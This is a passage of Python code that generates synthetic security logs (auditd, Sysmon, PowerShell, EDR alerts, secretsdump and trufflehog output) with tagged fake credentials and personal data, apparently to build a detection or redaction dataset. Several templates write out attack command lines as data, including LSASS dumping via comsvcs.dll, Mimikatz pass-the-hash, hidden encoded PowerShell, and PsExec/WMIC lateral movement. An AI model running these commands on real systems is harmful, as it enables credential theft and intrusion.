          "requestID": c.uuid(), "eventID": c.D(c.uuid(), "uuid"), "readOnly": True,
          "resources": [{"accountId": acct, "type": "AWS::IAM::Role", "ARN": f"arn:aws:iam::{acct}:role/{role}"}],
          "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": acct}
    return c.jd(ev)


def _audit_stamp(c):
    return f"{c.epoch()}.{c.dt.microsecond // 1000:03d}"


@tpl("auditd_user_auth")
def t_audit_auth(c):
    p = c.person("cnwest")
    ip = c.ip_client(v6=0.1, priv=0.4)
    op, res = c.ch([("PAM:authentication", "failed"), ("PAM:authentication", "success"), ("PAM:accounting", "success")])
    typ = "USER_AUTH" if op.endswith("authentication") else "USER_ACCT"
    grant = "?" if res == "failed" else ("pam_unix" if typ == "USER_AUTH" else "pam_unix,pam_localuser")
    exe, term = c.ch([("/usr/sbin/sshd", "ssh"), ("/usr/sbin/sshd", "ssh"), ("/usr/bin/login", "/dev/tty1")])
    if term == "ssh":
        host = f"hostname={c.S(ip, 'IP_ADDRESS')} addr={c.S(ip, 'IP_ADDRESS')}"
    else:
        host = "hostname=? addr=?"
    return (f"type={typ} msg=audit({c.D(_audit_stamp(c), 'timestamp_digits')}:{c.r.randint(100, 999999)}): "
            f"pid={c.D(c.r.randint(1000, 4194304), 'process_id')} uid=0 auid=4294967295 ses=4294967295 "
            f"subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op={op} grantors={grant} acct=\"{c.S(p.login, 'PERSON')}\" "
            f"exe=\"{exe}\" {host} terminal={term} res={res}'")


@tpl("auditd_execve")
def t_audit_execve(c):
    p = c.person("cnwest")
    pw = c.password()
    k = c.r.randrange(4)
    if k == 0:
        args = ["mysql", "-h", c.D(c.ip_server(0.0), "server_ip"), "-u", "appuser", "-p" + c.S(pw, "CREDENTIAL")]
    elif k == 1:
        args = ["curl", "-s", "-u", c.S(p.login, "PERSON") + ":" + c.S(pw, "CREDENTIAL"),
                "https://nexus." + c.corp + "/service/rest/v1/repositories"]
    elif k == 2:
        args = ["sshpass", "-p", c.S(pw, "CREDENTIAL"), "ssh", "-o", "StrictHostKeyChecking=no",
                c.S(p.login, "PERSON") + "@" + c.D(c.ip_server(0.0), "server_ip")]
    else:
        args = ["psql", "postgresql://" + c.D("postgres", "system_account") + ":" + c.S(pw, "CREDENTIAL", "url") + "@db01." + c.corp + ":5432/crm"]
    body = " ".join(f'a{i}="{a}"' for i, a in enumerate(args))
    return f"type=EXECVE msg=audit({c.D(_audit_stamp(c), 'timestamp_digits')}:{c.r.randint(100, 999999)}): argc={len(args)} {body}"


@tpl("fail2ban")
def t_fail2ban(c):
    d = c.local()
    ts = d.strftime("%Y-%m-%d %H:%M:%S,") + f"{d.microsecond // 1000:03d}"
    jail = c.ch(["sshd", "nginx-http-auth", "postfix-sasl", "recidive", "dovecot"])
    ip = c.S(c.ip_pub() if c.r.random() < 0.9 else c.ip6(), "IP_ADDRESS")
    pid = c.D(c.r.randint(500, 99999), "process_id")
    k = c.r.randrange(4)
    if k == 0:
        return f"{ts} fail2ban.actions        [{pid}]: NOTICE  [{jail}] Ban {ip}"
    if k == 1:
        return f"{ts} fail2ban.filter         [{pid}]: INFO    [{jail}] Found {ip} - {d:%Y-%m-%d %H:%M:%S}"
    if k == 2:
        return f"{ts} fail2ban.actions        [{pid}]: NOTICE  [{jail}] Unban {ip}"
    return f"{ts} fail2ban.actions        [{pid}]: WARNING [{jail}] {ip} already banned"


@tpl("sudo_syslog")
def t_sudo(c):
    p = c.person("cnwest")
    host = c.D(c.srv_host(), "hostname")
    k = c.r.randrange(3)
    if k == 0:
        pw = c.password()
        cmd = c.ch(["/usr/bin/mysql -u root -p", "/usr/bin/redis-cli -a ", "/usr/local/bin/vault login -method=userpass username=ops password="])
        msg = (f"  {c.S(p.login, 'PERSON')} : TTY=pts/{c.r.randint(0, 9)} ; PWD=/home/{c.S(p.login, 'PERSON')} ; "
               f"USER={c.D('root', 'system_account')} ; COMMAND={cmd}{c.S(pw, 'CREDENTIAL')}")
    elif k == 1:
        msg = (f"  {c.S(p.login, 'PERSON')} : {c.r.randint(1, 3)} incorrect password attempts ; TTY=pts/{c.r.randint(0, 9)} ; "
               f"PWD=/home/{c.S(p.login, 'PERSON')} ; USER={c.D('root', 'system_account')} ; COMMAND=/bin/bash")
    else:
        u = p.login
        msg = (f" pam_unix(sudo:auth): authentication failure; logname={c.S(u, 'PERSON')} uid={c.r.randint(1000, 1200)} "
               f"euid=0 tty=/dev/pts/{c.r.randint(0, 9)} ruser={c.S(u, 'PERSON')} rhost=  user={c.S(u, 'PERSON')}")
    return f"{c.syslog_ts()} {host} sudo:{msg}"


def _sid(c, rid=None):
    return f"S-1-5-21-{c.r.randint(10 ** 9, 4 * 10 ** 9)}-{c.r.randint(10 ** 9, 4 * 10 ** 9)}-{c.r.randint(10 ** 8, 4 * 10 ** 9)}-{rid or c.r.randint(1100, 9000)}"


@tpl("windows_4624_rendered")
def t_win4624_txt(c):
    p = c.person("cnwest")
    dom = c.ch(["CORP", "ACME"])
    dc = c.ch(["DC01", "DC02", "FS01"])
    fq = f"{dc}.{dom.lower()}.local"
    lt = c.ch(["3", "10", "2", "11"])
    msg = ("An account was successfully logged on.  Subject:  Security ID:  S-1-5-18  Account Name:  "
           f"{c.D(dc + '$', 'system_account')}  Account Domain:  {dom}  Logon ID:  0x3E7  Logon Information:  Logon Type:  {lt}  "
           "Restricted Admin Mode:  -  Virtual Account:  No  Elevated Token:  Yes  Impersonation Level:  Impersonation  "
           f"New Logon:  Security ID:  {_sid(c)}  Account Name:  {c.S(p.login, 'PERSON')}  Account Domain:  {dom}  "
           f"Logon ID:  0x{c.hexs(6).upper()}  Linked Logon ID:  0x0  Network Account Name:  -  Network Account Domain:  -  "
           f"Logon GUID:  {{{c.D(c.uuid(), 'uuid')}}}  Process Information:  Process ID:  0x{c.hexs(3)}  "
           "Process Name:  C:\\Windows\\System32\\svchost.exe  Network Information:  Workstation Name:  "
           f"{c.D(c.ws_host(), 'hostname')}  Source Network Address:  {c.S(c.ip_client(v6=0.05, priv=0.7), 'IP_ADDRESS')}  "
           f"Source Port:  {c.r.choice([0, c.port()])}  Detailed Authentication Information:  Logon Process:  "
           f"{'NtLmSsp' if lt == '3' else 'User32'}  Authentication Package:  {'NTLM' if lt == '3' else 'Negotiate'}")
    d = c.local()
    head = (f"<13>{c.syslog_ts()} {fq} MSWinEventLog\t1\tSecurity\t{c.digits(8, True)}\t"
            f"{DAYS[d.weekday()]} {MONTHS[d.month - 1]} {d.day:02d} {d:%H:%M:%S} {d.year}\t4624\t"
            f"Microsoft-Windows-Security-Auditing\tN/A\tN/A\tSuccess Audit\t{fq}\tLogon\t\t")
    return head + msg


@tpl("windows_4720_4740_rendered")
def t_win47xx(c):
    p = c.person("cnwest")
    dom = c.ch(["CORP", "ACME", "HQ"])
    d = c.local()
    if c.r.random() < 0.5:
        eid, cat = 4740, "User Account Management"
        msg = ("A user account was locked out.  Subject:  Security ID:  S-1-5-18  Account Name:  "
               f"{c.D(c.ch(['DC01$', 'DC02$']), 'system_account')}  Account Domain:  {dom}  Logon ID:  0x3E7  "
               f"Account That Was Locked Out:  Security ID:  {_sid(c)}  Account Name:  {c.S(p.login, 'PERSON')}  "
               f"Additional Information:  Caller Computer Name:  {c.D(c.ws_host(), 'hostname')}")
    else:
        eid, cat = 4720, "User Account Management"
        adm = c.person("cnwest")
        admin_name = c.S("adm-" + adm.login if c.r.random() < 0.5 else adm.login, "PERSON")
        new = p.login
        msg = (f"A user account was created.  Subject:  Security ID:  {_sid(c)}  Account Name:  {admin_name}  "
               f"Account Domain:  {dom}  Logon ID:  0x{c.hexs(6).upper()}  New Account:  Security ID:  {_sid(c)}  "
               f"Account Name:  {c.S(new, 'PERSON')}  Account Domain:  {dom}  Attributes:  SAM Account Name:  "
               f"{c.S(new, 'PERSON')}  Display Name:  <value not set>  User Principal Name:  -  Home Directory:  "
               "<value not set>  Home Drive:  <value not set>  Script Path:  <value not set>  Profile Path:  "
               "<value not set>  User Workstations:  <value not set>  Password Last Set:  <never>  Account Expires:  "
               "<never>  Primary Group ID:  513  Allowed To Delegate To:  -  Old UAC Value:  0x0  New UAC Value:  0x15  "
               "User Account Control:  Account Disabled  'Password Not Required' - Enabled  'Normal Account' - Enabled  "
               "User Parameters:  <value not set>  SID History:  -  Logon Hours:  All")
    return (f"{d:%Y-%m-%d %H:%M:%S} {c.ch(['DC01', 'DC02'])}.{dom.lower()}.local Security-Auditing[{eid}]: "
            f"EventID={eid} Category=\"{cat}\" Keywords=\"Audit Success\" Message=\"{msg}\"")


SYSMON_HEAD = ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
               "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>")


def _sysmon_sys(c, eid, task, host):
    t = c.dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{c.dt.microsecond:06d}0Z"
    return (SYSMON_HEAD + f"<EventID>{eid}</EventID><Version>5</Version><Level>4</Level><Task>{task}</Task>"
            f"<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{t}'/>"
            f"<EventRecordID>{c.digits(6, True)}</EventRecordID><Correlation/><Execution ProcessID='{c.r.randint(2000, 6000)}' "
            f"ThreadID='{c.r.randint(2000, 9000)}'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
            f"<Computer>{host}</Computer><Security UserID='S-1-5-18'/></System>")


def _data(pairs):
    return "<EventData>" + "".join(f"<Data Name='{k}'>{v}</Data>" for k, v in pairs) + "</EventData></Event>"


@tpl("sysmon_1_process_create")
def t_sysmon1(c):
    p = c.person("cnwest")
    dom = c.ch(["CORP", "ACME"])
    pw = c.S(c.password(hard=True), "CREDENTIAL", "xml")
    srv = c.ch(["fs01", "srv-db01", "erp-app-02"])
    k = c.r.randrange(4)
    user_s = c.S(p.login, "PERSON", "xml")
    if k == 0:
        img, desc, ofn = "C:\\Windows\\System32\\net.exe", "Net Command", "net.exe"
        cmd = f"net  use \\\\{srv}\\finance /user:{dom}\\{c.S(p.login, 'PERSON', 'xml')} {pw}"
    elif k == 1:
        img, desc, ofn = "C:\\Windows\\System32\\schtasks.exe", "Task Scheduler Configuration Tool", "schtasks.exe"
        cmd = (f"schtasks  /create /tn \"MicrosoftEdgeUpdateCore\" /tr C:\\ProgramData\\edgeupd.exe /sc minute /mo 30 "
               f"/ru {dom}\\{c.D('svc-backup', 'system_account')} /rp {pw}")
    elif k == 2:
        img, desc, ofn = "C:\\Users\\Public\\PsExec64.exe", "Execute processes remotely", "psexec.c"
        cmd = f"PsExec64.exe \\\\{srv} -accepteula -u {dom}\\{c.D('administrator', 'system_account')} -p {pw} cmd.exe /c whoami"
    else:
        img, desc, ofn = "C:\\Windows\\System32\\wbem\\WMIC.exe", "WMI Commandline Utility", "wmic.exe"
        cmd = (f"wmic  /node:{c.ip_server(0.0)} /user:{c.D('administrator', 'system_account')} "
               f"/password:{pw} process call create \"cmd.exe /c vssadmin list shadows\"")
    ws = c.ws_host()
    pairs = [("RuleName", "technique_id=T1021,technique_name=Remote Services"),
             ("UtcTime", c.dt.strftime("%Y-%m-%d %H:%M:%S.") + f"{c.dt.microsecond // 1000:03d}"),
             ("ProcessGuid", "{" + c.uuid() + "}"), ("ProcessId", str(c.r.randint(1000, 20000))), ("Image", img),
             ("FileVersion", "10.0.22621.1 (WinBuild.160101.0800)"), ("Description", desc),
             ("Product", "Microsoft® Windows® Operating System"), ("Company", "Microsoft Corporation"),
             ("OriginalFileName", ofn), ("CommandLine", cmd), ("CurrentDirectory", "C:\\Windows\\system32\\"),
             ("User", f"{dom}\\{user_s}"), ("LogonGuid", "{" + c.uuid() + "}"), ("LogonId", "0x" + c.hexs(6).upper()),
             ("TerminalSessionId", "1"), ("IntegrityLevel", "High"),
             ("Hashes", "SHA256=" + c.D(c.sha256(upper=True), "hash")),
             ("ParentProcessGuid", "{" + c.uuid() + "}"), ("ParentProcessId", str(c.r.randint(1000, 20000))),
             ("ParentImage", "C:\\Windows\\System32\\cmd.exe"), ("ParentCommandLine", "\"C:\\Windows\\system32\\cmd.exe\" ")]
    return _sysmon_sys(c, 1, 1, c.D(ws + "." + dom.lower() + ".local", "hostname")) + _data(pairs)


@tpl("sysmon_3_network")
def t_sysmon3(c):
    p = c.person("cnwest")
    dom = c.ch(["CORP", "ACME"])
    ws = c.ws_host()
    c2 = c.r.random() < 0.5
    img = c.ch(["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Users\\Public\\svchost.exe",
                "C:\\Windows\\System32\\rundll32.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"])
    if c2:
        dip, dhost, dport, dpn = c.S(c.ip_pub(), "IP_ADDRESS"), "-", c.ch(["443", "8443", "4444", "80"]), "-"
    else:
        dip, dhost, dport, dpn = (c.D(c.ip_server(0.0), "server_ip"), c.ch(["dc01", "fs01", "exch01"]) + "." + dom.lower() + ".local",
                                  c.ch(["445", "389", "135"]), c.ch(["microsoft-ds", "ldap", "epmap"]))
    pairs = [("RuleName", "-"), ("UtcTime", c.dt.strftime("%Y-%m-%d %H:%M:%S.") + f"{c.dt.microsecond // 1000:03d}"),
             ("ProcessGuid", "{" + c.D(c.uuid(), "uuid") + "}"), ("ProcessId", str(c.r.randint(1000, 20000))),
             ("Image", img), ("User", f"{dom}\\{c.S(p.login, 'PERSON', 'xml')}"), ("Protocol", "tcp"), ("Initiated", "true"),
             ("SourceIsIpv6", "false"), ("SourceIp", c.S(c.ip_priv(), "IP_ADDRESS")),
             ("SourceHostname", c.D(ws + "." + dom.lower() + ".local", "hostname")), ("SourcePort", str(c.port())),
             ("SourcePortName", "-"), ("DestinationIsIpv6", "false"), ("DestinationIp", dip),
             ("DestinationHostname", dhost), ("DestinationPort", dport), ("DestinationPortName", dpn)]
    return _sysmon_sys(c, 3, 3, ws + "." + dom.lower() + ".local") + _data(pairs)


@tpl("powershell_4104_winlogbeat")
def t_ps4104(c):
    p = c.person("cnwest")
    dom = c.ch(["CORP", "ACME"])
    if c.r.random() < 0.6:
        sb = (f"$pw = ConvertTo-SecureString '{c.S(c.password(), 'CREDENTIAL', 'json')}' -AsPlainText -Force\n"
              f"$cred = New-Object System.Management.Automation.PSCredential('{dom}\\{c.S(p.login, 'PERSON', 'json')}', $pw)\n"
              f"Invoke-Command -ComputerName {c.ch(['SRV-FS01', 'SRV-DB01', 'EXCH01'])} -Credential $cred -ScriptBlock {{ Get-ChildItem D:\\Finance -Recurse }}")
    else:
        tok = c.S(c.jwt(), "CREDENTIAL", "json")
        sb = (f"$h = @{{Authorization = 'Bearer {tok}'}}\n"
              f"Invoke-RestMethod -Uri 'https://api.{c.corp}/v1/users/export?all=true' -Headers $h -OutFile $env:TEMP\\u.json")
    ev = {"@timestamp": c.iso(3), "event": {"code": "4104", "provider": "Microsoft-Windows-PowerShell",
                                             "kind": "event", "action": "Execute a Remote Command"},
          "host": {"name": c.D(c.ws_host(), "hostname")},
          "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "event_id": "4104",
                     "event_data": {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": sb,
                                    "ScriptBlockId": c.D(c.uuid(), "uuid"), "Path": ""},
                     "user": {"identifier": _sid(c), "name": c.S(p.login, "PERSON"), "domain": dom, "type": "User"},
                     "process": {"pid": c.r.randint(1000, 20000), "thread": {"id": c.r.randint(1000, 20000)}},
                     "record_id": int(c.digits(6, True))},
          "log": {"level": "warning"}}
    return c.jd(ev)


@tpl("edr_detection_json")
def t_edr(c):
    p = c.person("cnwest")
    dom = c.ch(["CORP", "ACME"])
    ev = {"metadata": {"customerIDString": c.hexs(32), "offset": c.r.randint(10 ** 5, 10 ** 7),
                       "eventType": "DetectionSummaryEvent", "eventCreationTime": c.epoch(ms=True), "version": "1.0"},
          "event": {"ProcessStartTime": c.epoch() - c.r.randint(1, 60), "ProcessEndTime": 0,
                    "ProcessId": c.D(c.digits(12, True), "process_id"),
                    "ParentProcessId": c.digits(12, True), "ComputerName": c.D(c.ws_host(), "hostname"),
                    "UserName": c.S(p.login, "PERSON")}}
    k = c.r.randrange(3)
    if k == 0:
        ev["event"].update({"DetectName": "CredentialDumping", "DetectDescription": "A process accessed LSASS memory via comsvcs.dll MiniDump.",
                            "Tactic": "Credential Access", "Technique": "OS Credential Dumping",
                            "CommandLine": f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {c.r.randint(600, 900)} C:\\Windows\\Temp\\lsass.dmp full",
                            "LocalIP": c.S(c.ip_priv(), "IP_ADDRESS")})
    elif k == 1:
        ev["event"].update({"DetectName": "PassTheHash", "DetectDescription": "Mimikatz pass-the-hash command line observed.",
                            "Tactic": "Lateral Movement", "Technique": "Use Alternate Authentication Material",
                            "CommandLine": f"m64.exe \"privilege::debug\" \"sekurlsa::pth /user:{c.S(p.login, 'PERSON', 'json')} "
                                           f"/domain:{dom.lower()}.local /ntlm:{c.S(c.ntlm(), 'CREDENTIAL')} /run:cmd.exe\" exit"})
    else:
        ev["event"].update({"DetectName": "MaliciousDocument", "DetectDescription": "Office application spawned a suspicious PowerShell child process.",
                            "Tactic": "Execution", "Technique": "Command and Scripting Interpreter",
                            "CommandLine": "powershell.exe -nop -w hidden -enc " + _b64url(c.alnum(30).encode()),
                            "LocalIP": c.S(c.ip_priv(), "IP_ADDRESS")})
    ev["event"].update({"Severity": 5, "SeverityName": "Critical", "MachineDomain": dom,
                        "SHA256String": c.D(c.sha256(), "hash"), "MD5String": c.md5(),
                        "PatternDispositionDescription": c.ch(["Prevention, process killed.", "Detection, standard detection."]),
                        "ParentImageFileName": c.ch(["\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
                                                     "\\Device\\HarddiskVolume3\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"])})
    return c.jd(ev)


@tpl("cisco_esa_mail_log")
def t_esa(c):
    d = c.local()
    ts = f"{DAYS[d.weekday()]} {MONTHS[d.month - 1]} {d.day:2d} {d:%H:%M:%S} {d.year}"
    mid_v, icid = c.digits(c.ch([7, 8, 9]), True), c.digits(7, True)
    k = c.r.randrange(6)
    if k == 5:
        return (f"{ts} Info: MID {c.D(mid_v, 'event_id')} Subject \"Your {c.D(c.ch(COMPANIES_EN), 'company')} order "
                f"#{c.D(c.luhn16(c.ch('3456')), 'order_id')} has shipped\"")
    if k != 2:
        mid = c.D(mid_v, "event_id")
    if k == 0:
        att = c.person(c.ch(["west", "zh"]))
        msg = f"MID {mid} ICID {icid} From: <{c.S(c.email(att, free=True), 'EMAIL_ADDRESS')}>"
    elif k == 1:
        msg = f"MID {mid} ICID {icid} RID 0 To: <{c.S(c.email(c.person(), corp=c.corp, free=False), 'EMAIL_ADDRESS')}>"
    elif k == 2:
        msg = (f"New SMTP ICID {icid} interface Data 1 ({c.D(c.ip_server(0.0), 'server_ip')}) address "
               f"{c.S(c.ip_pub(), 'IP_ADDRESS')} reverse dns host unknown verified no")
    elif k == 3:
        msg = (f"MID {mid} quarantined to \"Outbreak\" (Outbreak Filters: {c.ch(['Phish', 'Malware', 'BEC'])} URL) "
               f"from <{c.S(c.email(c.person(), free=True), 'EMAIL_ADDRESS')}>")
    else:
        msg = (f"MID {mid} Custom Log Entry: phish_block matched, sender={c.D(c.role_mail(c.ch(['corp-cn.top', 'micros0ft-support.com', 'dhl-express-track.xyz'])), 'role_mailbox')} "
               f"rcpt={c.S(c.email(c.person(), corp=c.corp, free=False), 'EMAIL_ADDRESS')}")
    return f"{ts} Info: {msg}"


@tpl("mimecast_impersonation_json")
def t_mimecast(c):
    ceo = c.person(c.ch(["west", "zh"]))
    look = c.ch(["corp-cn.top", "acme-c0rp.com", "contoso-mail.net", "hooli-io.co"])
    ev = {"id": "eNo1jr" + c.alnum(40), "senderAddress": c.D(c.ch(["ceo-office", "finance", "payroll", "exec.assistant"]) + "@" + look, "role_mailbox"),
          "recipientAddress": c.S(c.email(c.person(), corp=c.corp, free=False), "EMAIL_ADDRESS"),
          "subject": c.pick(lambda: c.ch(["Urgent wire transfer", "Are you available?", "Confidential: acquisition payment", "紧急：请今天内完成付款"]),
                            lambda: c.D(c.ch(["Elon Musk", "Albert Einstein", "Sherlock Holmes"]), "public_figure") + " quote for today's board deck"),
          "definition": "Default Impersonation Definition", "hits": c.r.randint(2, 4), "identifiers": ["similar_internal_domain", "newly_observed_domain", "internal_user_name"],
          "action": c.ch(["hold", "bounce"]), "taggedExternal": True, "taggedMalicious": True,
          "senderIpAddress": c.S(c.ip_pub(), "IP_ADDRESS"), "eventTime": c.iso(0).replace("Z", "+0000"),
          "impersonationResults": [{"impersonationDomainSource": "Display name", "checkerResult": "hit",
                                    "similarDomain": look, "stringSimilarToDomain": c.S(ceo.full, "PERSON", "json")}],
          "messageId": f"<{c.uuid()}@{look}>"}
    return c.jd(ev)


@tpl("purview_dlp_rule_match")
def t_purview(c):
    p = c.person(c.ch(["west", "zh", "any"]))
    email = p.local + "@" + c.corp
    k = c.r.randrange(5)
    if k == 0:
        sit, val = "U.S. Social Security Number (SSN)", c.S(c.ssn(), "US_SSN")
    elif k == 1:
        sit, val = "International Banking Account Number (IBAN)", c.S(c.iban(), "IBAN_CODE")
    elif k == 2:
        sit, val = "Credit Card Number", c.S(c.card(), "CREDIT_CARD")
    elif k == 3:
        sit, val = "U.S. / U.K. Passport Number", c.S(c.passport(c.ch(["US", "GB"])), "PASSPORT")
    else:
        sit, val = "China Resident Identity Card (PRC) Number", c.S(c.cn_id(), "CN_RESIDENT_ID")
    ev = {"CreationTime": c.dt.strftime("%Y-%m-%dT%H:%M:%S"), "Id": c.D(c.uuid(), "uuid"), "Operation": "DlpRuleMatch",
          "OrganizationId": c.uuid(), "RecordType": 13, "UserKey": c.D("1003" + c.hexs(12, upper=True).replace("A", "0").replace("B", "1")
                                                                               .replace("C", "2").replace("D", "3").replace("E", "4").replace("F", "5"), "user_id"),
          "UserType": 0, "Version": 1, "Workload": "Exchange", "ObjectId": f"<{c.alnum(20)}@{c.corp}>",
          "UserId": c.S(email, "EMAIL_ADDRESS"), "IncidentId": c.uuid(),
          "PolicyDetails": [{"PolicyId": c.uuid(), "PolicyName": c.ch(["U.S. Financial Data", "GDPR Enhanced", "PII - Outbound"]),
                             "Rules": [{"RuleId": c.uuid(), "RuleName": "Content shared externally", "Actions": ["NotifyUser", "BlockAccess"],
                                        "Severity": c.ch(["High", "Medium"]), "ConditionsMatched": {"SensitiveInformation": [
                                            {"SensitiveInformationTypeName": sit,
                                             "SensitiveInformationDetections": {"Detections": [{"Value": val}], "ResultsTruncated": False},
                                             "Count": 1, "Confidence": c.ch([75, 85])}]}}]}],
          "SensitiveInfoDetectionIsIncluded": True,
          "ExchangeMetaData": {"From": c.S(email, "EMAIL_ADDRESS"), "To": [c.D(c.role_mail(c.ch(["partner-example.com", "vendor-payroll.io"])), "role_mailbox")],
                               "CC": [], "Subject": c.ch(["payroll export", "FW: customer list", "onboarding docs"]), "RecipientCount": 1}}
    return c.jd(ev)


@tpl("siem_notable_summary")
def t_siem(c):
    p = c.person("cnwest")
    if c.r.random() < 0.5:
        rule = c.ch(["Brute Force Access Behavior Detected", "Excessive Failed Logins", "Geographically Improbable Access Detected",
                     "Impossible Travel - Successful Login"])
        return (f"{c.epoch_f(3)} notable: search_name=\"Access - {rule} - Rule\" rule_name=\"{rule}\" "
                f"src=\"{c.S(c.ip_client(v6=0.1, priv=0.2), 'IP_ADDRESS')}\" user=\"{c.S(p.login, 'PERSON')}\" "
                f"dest=\"{c.D(c.ip_server(0.0), 'server_ip')}\" count={c.r.randint(5, 900)} urgency={c.ch(['high', 'critical', 'medium'])} "
                f"orig_time={c.D(c.epoch(), 'timestamp_digits')} event_id=\"{c.D(c.uuid(upper=True), 'uuid')}@@notable@@{c.md5()}\"")
    desc = c.ch(["Multiple Login Failures for the Same User", "Login Failures Followed By Success to the same Destination IP",
                 "Excessive Firewall Denies From Single Source"])
    return (f"LEEF:2.0|IBM|QRadar|7.5.0|OffenseCreated|^|offenseId={c.D(c.r.randint(1000, 99999), 'event_id')}^"
            f"offenseDescription={desc} containing Failure Audit: An account failed to log on^"
            f"sourceIP={c.S(c.ip_client(v6=0.05, priv=0.3), 'IP_ADDRESS')}^destinationIP={c.D(c.ip_server(0.0), 'server_ip')}^"
            f"username={c.S(p.login, 'PERSON')}^magnitude={c.r.randint(3, 9)}^severity={c.r.randint(4, 10)}^"
            f"startTime={c.D(c.epoch(ms=True), 'timestamp_digits')}")


@tpl("impacket_secretsdump")
def t_secretsdump(c):
    p = c.person("cnwest")
    dom = c.ch(["CORP.LOCAL", "corp.local", "ACME"])
    k = c.r.randrange(4)
    if k == 0:
        return (f"{dom}\\{c.S(p.login, 'PERSON')}:{c.r.randint(1100, 9000)}:{c.D('aad3b435b51404eeaad3b435b51404ee', 'hash')}:"
                f"{c.S(c.ntlm(), 'CREDENTIAL')}:::")
    if k == 1:
        return f"{dom}\\{c.S(p.login, 'PERSON')}:aes256-cts-hmac-sha1-96:{c.S(c.hexs(64), 'CREDENTIAL')}"
    if k == 2:
        return f"{dom}\\{c.S(p.login, 'PERSON')}:CLEARTEXT:{c.S(c.password(), 'CREDENTIAL')}"
    return (f"[*] Dumping Domain Credentials (domain\\uid:rid:lmhash:nthash) | {dom}\\{c.S(p.login, 'PERSON')}:"
            f"{c.r.randint(1100, 9000)}:{c.D('aad3b435b51404eeaad3b435b51404ee', 'hash')}:{c.S(c.ntlm(), 'CREDENTIAL')}::: (status=Enabled)")


@tpl("trufflehog_finding")
def t_trufflehog(c):
    p = c.person(c.ch(["west", "zh", "ja"]))
    det, typ, raw = c.ch([("Github", 8, c.ghp), ("Slack", 12, c.slack), ("Stripe", 5, c.stripe),
                          ("GoogleApiKey", 979, c.google_key), ("AWS", 2, c.aws_key_id)])
    ev = {"SourceMetadata": {"Data": {"Git": {
        "commit": c.D(c.sha1(), "hash"), "file": c.ch(["deploy/.env", "config/settings.py", "scripts/backup.sh", "k8s/secret.yaml"]),
        "email": c.S(p.full, "PERSON", "json") + " <" + c.S(c.email(p, corp=c.corp), "EMAIL_ADDRESS") + ">",
        "repository": f"https://github.com/{c.corp.split('.')[0]}/{c.ch(['payments-api', 'infra', 'ops-scripts'])}.git",
        "timestamp": c.dt.strftime("%Y-%m-%d %H:%M:%S +0000"), "line": c.r.randint(1, 300)}}},
          "SourceID": 1, "SourceType": 16, "SourceName": "trufflehog - git", "DetectorType": typ,
          "DetectorName": det, "DecoderName": "PLAIN", "Verified": c.r.random() < 0.6,
          "Raw": c.S(raw(), "CREDENTIAL"), "RawV2": "", "Redacted": "", "ExtraData": None, "StructuredData": None}
    return c.jd(ev).replace("<", "\\u003c").replace(">", "\\u003e")


@tpl("aws_vpc_flow_log")
def t_vpcflow(c):
    acct = c.D(c.digits(12, True), "account_id")
    eni = "eni-" + c.hexs(17)
    start = c.epoch() - c.r.randint(0, 60)
    if c.r.random() < 0.7:
        src, dst = c.S(c.ip_pub(), "IP_ADDRESS"), c.D(c.ip_server(0.0), "server_ip")
        sp, dp = c.port(), c.ch([22, 3389, 443, 6379, 9200])
    else:
        src, dst = c.D(c.ip_server(0.0), "server_ip"), c.S(c.ip_pub(), "IP_ADDRESS")
        sp, dp = c.port(), c.ch([4444, 8443, 53, 443])
    return (f"2 {acct} {eni} {src} {dst} {sp} {dp} {c.ch([6, 6, 17])} {c.r.randint(1, 400)} {c.r.randint(40, 900000)} "
            f"{c.D(start, 'timestamp_digits')} {start + 60} {c.ch(['ACCEPT', 'REJECT', 'REJECT'])} OK")


@tpl("zeek_conn_log")
def t_zeek_conn(c):
    state, hist = c.ch([("S0", "S"), ("REJ", "Sr"), ("SF", "ShADadfF"), ("RSTO", "ShADadR"), ("OTH", "C")])
    inbound = c.r.random() < 0.6
    orig = c.S(c.ip_pub() if inbound else c.ip_priv(), "IP_ADDRESS")
    resp = c.D(c.ip_server(0.0 if inbound else 1.0), "server_ip")
    svc = c.ch(["ssh", "-", "ssl", "http", "dns"])
    f = [c.D(c.epoch_f(6), "timestamp_digits"), "C" + c.alnum(17), orig, str(c.port()), resp,
         c.ch(["22", "443", "80", "3389", "53"]), "tcp" if svc != "dns" else "udp", svc,
         f"{c.r.uniform(0, 30):.6f}" if state == "SF" else "-", str(c.r.randint(0, 9000)) if state == "SF" else "-",
         str(c.r.randint(0, 90000)) if state == "SF" else "-", state, "F" if inbound else "T", "T" if inbound else "F",
         "0", hist, str(c.r.randint(1, 40)), str(c.r.randint(40, 9000)), str(c.r.randint(0, 40)), str(c.r.randint(0, 90000)), "-"]
    return "\t".join(f)


@tpl("freeradius_auth")
def t_radius(c):
    p = c.person("cnwest")
    d = c.local()
    ts = f"{DAYS[d.weekday()]} {MONTHS[d.month - 1]} {d.day:2d} {d:%H:%M:%S} {d.year}"
    u = p.login
    k = c.r.randrange(3)
    if k == 0:
        pw = c.password()
        msg = (f"Auth: ({c.r.randint(1, 99999)}) Login incorrect (pap: Cleartext password \"{c.S(pw, 'CREDENTIAL')}\" does not match "
               f"\"known good\" password): [{c.S(u, 'PERSON')}/{c.S(pw, 'CREDENTIAL')}] (from client "
               f"{c.D(c.ch(['wlc-01', 'ap-ctrl-hq', 'sw-core-02']), 'hostname')} port {c.r.randint(0, 60)} cli {c.D(c.mac('-', upper=True), 'mac_address')})")
    elif k == 1:
        msg = (f"Auth: ({c.r.randint(1, 99999)}) Login OK: [{c.S(u, 'PERSON')}] (from client {c.D('vpn-gw01', 'hostname')} "
